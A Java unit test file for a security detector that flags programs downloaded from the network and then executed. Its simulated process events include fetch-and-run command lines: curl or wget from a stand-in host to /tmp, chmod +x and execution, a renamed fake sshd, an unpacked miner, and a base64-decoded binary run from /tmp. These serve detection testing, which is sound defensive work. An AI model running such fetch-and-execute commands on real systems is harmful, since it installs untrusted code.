package io.hivesec.detectors.execution;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;

import io.hivesec.alert.Finding;
import io.hivesec.event.Context;
import io.hivesec.event.Event;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.Test;

final class DownloadedProgramDetectorTest implements DetectorContract {
    private static final String ID = "malicious-command.downloaded-program";
    private static final String ADDRESS = "203.0.113.9";

    private final Scene scene = Scene.in("web-1");
    private int pid = 70_000;

    @Override
    public Detector detector() {
        return new DownloadedProgramDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("web-1");
        Scene.Actor shell = incident.starts("/bin/bash", "bash");
        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/.k", "http://203.0.113.9/k");
        shell.starts("/tmp/.k", "/tmp/.k");
        return incident.events();
    }

    private List<Finding> findings() {
        return Detecting.findings(detector(), scene);
    }

    /** A child that works in a directory. */
    private void startsIn(Scene.Actor parent, String directory, String executable, String... arguments) {
        Process process = Process.builder()
                .pid(pid++)
                .ppid(parent.pid())
                .executable(executable)
                .arguments(arguments)
                .workingDirectory(directory)
                .build();
        parent.does(context -> new ProcessStarted(
                new Context(context.time(), context.container(), process, List.of(parent.process()))));
    }

    @Test
    void inspect_fetchedMadeExecutableAndRun_isFoundWithItsFetcher() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash");
        Scene.Actor curl = shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/.k", "http://203.0.113.9/k");
        shell.starts("/bin/chmod", "chmod", "+x", "/tmp/.k");
        shell.starts("/tmp/.k", "/tmp/.k");
        assertThatFindings(findings())
                .show(ID, "fetchedBy", "curl -o /tmp/.k http://203.0.113.9/k (" + curl.pid() + ")")
                .show(ID, "program", "/tmp/.k");
    }

    @Test
    void inspect_scriptSavedUnderItsAddressesName_isFound() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash");
        startsIn(shell, "/tmp", "/usr/bin/wget", "wget", "http://203.0.113.9/a.sh");
        startsIn(shell, "/tmp", "/bin/bash", "bash", "a.sh");
        assertThatFindings(findings()).show(ID, "program", "/tmp/a.sh");
    }

    @Test
    void inspect_fetchedIntoTheImagesOwnFolderAndRunByAShell_isFound() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash");
        shell.starts("/usr/bin/curl", "curl", "-o", "/app/k", "http://203.0.113.9/k");
        shell.starts("/bin/chmod", "chmod", "+x", "/app/k");
        shell.starts("/app/k", "/app/k");
        assertThatFindings(findings()).show(ID, "program", "/app/k");
    }

    @Test
    void inspect_scriptInTheImagesOwnFolder_isFound() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash");
        startsIn(shell, "/srv", "/usr/bin/wget", "wget", "http://203.0.113.9/a.sh");
        startsIn(shell, "/srv", "/bin/sh", "sh", "a.sh");
        assertThatFindings(findings()).show(ID, "program", "/srv/a.sh");
    }

    @Test
    void inspect_imagesOwnProgramAfterAFetchOfSomethingElse_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash");
        shell.starts("/usr/bin/curl", "curl", "-o", "/app/data.json", "http://203.0.113.9/data.json");
        shell.starts("/app/server", "/app/server");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_fetchedBesideTheSystemAndRunByNoShell_isQuiet() {
        Scene.Actor server = scene.starts("/usr/bin/supervisord", "supervisord");
        server.starts("/usr/bin/curl", "curl", "-o", "/app/k", "http://203.0.113.9/k");
        server.starts("/app/k", "/app/k");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_fetchedAndRunByShellsOfTheirOwn_isFound() {
        Scene.Actor server = scene.starts("/usr/sbin/php-fpm", "php-fpm: pool www");
        server.starts("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/b -o /var/tmp/b");
        server.starts("/bin/sh", "sh", "-c", "/var/tmp/b &").starts("/var/tmp/b", "/var/tmp/b");
        assertThatFindings(findings()).show(ID);
    }

    @Test
    void inspect_outOfAnArchiveOfANamelessHost_isFound() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/wget", "wget", "-O", "/tmp/x.tgz", "http://203.0.113.9/x.tgz");
        shell.starts("/bin/tar", "tar", "xzf", "/tmp/x.tgz", "-C", "/tmp");
        shell.starts("/tmp/x/miner", "/tmp/x/miner");
        assertThatFindings(findings()).show(ID);
    }

    @Test
    void inspect_movedToAnotherNameFirst_isFound() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "http://203.0.113.9/q", "-o", "/tmp/q");
        shell.starts("/bin/mv", "mv", "/tmp/q", "/tmp/sshd");
        shell.starts("/tmp/sshd", "/tmp/sshd");
        assertThatFindings(findings()).show(ID, "program", "/tmp/sshd");
    }

    @Test
    void inspect_writtenByAProgramThatHadConnected_isFound() {
        Scene.Actor dropper = scene.starts("/srv/app/server", "server");
        dropper.connects(7, ADDRESS, 80).writes("/tmp/.cache-x").starts("/tmp/.cache-x", "x");
        assertThatFindings(findings()).show(ID, "peer", "203.0.113.9:80");
    }

    @Test
    void inspect_writtenBeforeItConnected_isQuiet() {
        Scene.Actor program = scene.starts("/srv/app/server", "server");
        program.writes("/tmp/.cache-x").connects(7, ADDRESS, 80).starts("/tmp/.cache-x", "x");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_writtenByAProgramConnectedWithinTheHouse_isQuiet() {
        Scene.Actor program = scene.starts("/srv/app/server", "server");
        program.connects(7, "10.0.0.9", 80).writes("/tmp/.cache-x").starts("/tmp/.cache-x", "x");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_toolInABuildersFolder_isQuiet() {
        Scene.Actor pip = scene.starts("/usr/bin/python3", "python3", "/usr/bin/pip", "install", "x");
        pip.connects(5, ADDRESS, 443)
                .writes("/tmp/pip-build-1/bin/ninja")
                .starts("/tmp/pip-build-1/bin/ninja", "ninja");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_toldOfTheWholeLineAlready_isQuiet() {
        Scene.Actor shell =
                scene.starts("/bin/sh", "sh", "-c", "curl -o /tmp/k http://203.0.113.9/k; chmod +x /tmp/k; /tmp/k");
        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/k", "http://203.0.113.9/k");
        shell.starts("/tmp/k", "/tmp/k");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_installerOfAPublisherThatSaysSo_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        startsIn(shell, "/root", "/usr/bin/curl", "curl", "-fsSL", "https://get.docker.com", "-o", "get-docker.sh");
        startsIn(shell, "/root", "/bin/sh", "sh", "get-docker.sh");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_comparedWithItsDigest_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        startsIn(shell, "/tmp", "/usr/bin/curl", "curl", "-LO", "https://dl.example.org/tool");
        startsIn(shell, "/tmp", "/usr/bin/sha256sum", "sha256sum", "-c", "tool.sha256");
        startsIn(shell, "/tmp", "/tmp/tool", "./tool");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_fetchedIntoTheSystem_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-Lo", "/usr/local/bin/kubectl", "https://dl.k8s.io/kubectl");
        shell.starts("/usr/local/bin/kubectl", "kubectl", "version");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_onlyDataIsFetched_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/data.json", "https://api.example.com/data.json");
        shell.starts("/usr/bin/python3", "python3", "/app/import.py", "/tmp/data.json");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_scriptIsSentNotFetched_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-T", "/srv/report.sh", "https://files.example.com/report.sh");
        shell.starts("/bin/sh", "sh", "/srv/report.sh");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_nameIsPartOfAnotherName_isQuiet() {
        Scene.Actor server = scene.starts("/usr/sbin/cron", "cron");
        server.starts("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/backup -o /tmp/backup");
        server.starts("/bin/sh", "sh", "-c", "/tmp/up").starts("/tmp/up", "/tmp/up");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_interpretersOptionsStandBeforeTheScript_isFound() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-o", "/dev/shm/e.py", "http://203.0.113.9/e.py");
        shell.starts("/usr/bin/python3", "python3", "-u", "/dev/shm/e.py");
        assertThatFindings(findings()).show(ID, "program", "/dev/shm/e.py");
    }

    @Test
    void inspect_interpreterIsGivenATextThatNamesTheFile_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/list", "https://api.example.com/list");
        shell.starts("/usr/bin/python3", "python3", "-c", "print(open('/tmp/list').read())", "/tmp/list");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_decodedIntoAFileAndRun_isFound() {
        Scene.Actor server = scene.starts("/usr/sbin/php-fpm", "php-fpm: pool www");
        server.starts("/bin/sh", "sh", "-c", "echo f0VMRgIBAQ | base64 -d > /tmp/x");
        server.starts("/bin/sh", "sh", "-c", "chmod 755 /tmp/x");
        server.starts("/bin/sh", "sh", "-c", "/tmp/x").starts("/tmp/x", "/tmp/x");
        assertThatFindings(findings()).show("malicious-command.decoded-program", "program", "/tmp/x");
    }

    @Test
    void inspect_settingsAreDecodedAndReadByAProgram_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh", "/entrypoint.sh");
        shell.starts("/bin/sh", "sh", "-c", "echo a2V5PTEK | base64 -d > /tmp/settings");
        shell.starts("/srv/app/server", "server", "--settings", "/tmp/settings");
        assertThatFindings(findings()).areNone();
    }

    @Test
    void inspect_manyThingsDoneToItInBetween_isFound() {
        Scene.Actor shell = scene.starts("/bin/sh", "sh");
        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/k", "http://203.0.113.9/k");
        for (int i = 0; i < 20; i++) shell.starts("/bin/ls", "ls", "/tmp/k");
        shell.starts("/tmp/k", "/tmp/k");
        assertThatFindings(findings()).show(ID);
    }
}
